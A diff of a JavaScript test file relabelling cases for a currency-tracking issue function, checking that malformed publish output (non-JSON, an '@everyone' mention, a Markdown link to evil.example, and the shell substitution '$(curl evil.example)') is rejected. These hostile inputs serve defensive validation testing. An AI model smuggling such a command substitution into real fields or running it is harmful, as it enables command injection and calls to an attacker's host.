@@ -105,12 +105,12 @@ describe('keepDoubtsIssue (issue about long-held or omitted currencies)', () => 
   });
 
   it.each([
-    'nonsense',
-    '{}',
-    JSON.stringify([{ ...hkd, code: '@everyone' }]),
-    JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }]),
-    JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }]),
-  ])('throws and changes nothing if the output of the publish is the invalid text %s', async (output) => {
+    ['isn’t JSON', 'nonsense'],
+    ['isn’t a list', '{}'],
+    ['mentions a GitHub user in place of a currency', JSON.stringify([{ ...hkd, code: '@everyone' }])],
+    ['has Markdown in place of a reason', JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }])],
+    ['has a shell command in place of a value', JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }])],
+  ])('throws and changes nothing if the output of the publish %s', async (_, output) => {
     await expect(keep(output)).rejects.toThrow(CommandError);
     await expect(keep(output)).rejects.toThrow(
       /^The publish job’s output "doubts" is malformed\. See \S+, which .*\.$/,
